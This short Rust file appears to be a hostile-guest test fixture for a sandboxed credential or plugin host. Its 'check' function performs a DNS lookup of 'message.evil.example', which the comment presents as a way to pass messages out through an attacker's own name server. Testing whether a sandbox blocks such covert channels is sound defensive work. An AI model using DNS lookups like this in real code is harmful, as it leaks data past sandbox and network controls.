//! Looks a name up: what it asks for goes to a name server of its own, so a name is a message.

use keywright_guest_hostile::*;

attack! {
    fn check(_: &Account) -> Result<Principal> {
        use std::net::ToSocketAddrs as _;
        tell(json!({"found": ("message.evil.example", 53).to_socket_addrs().map(Iterator::count).ok()}))
    }
}
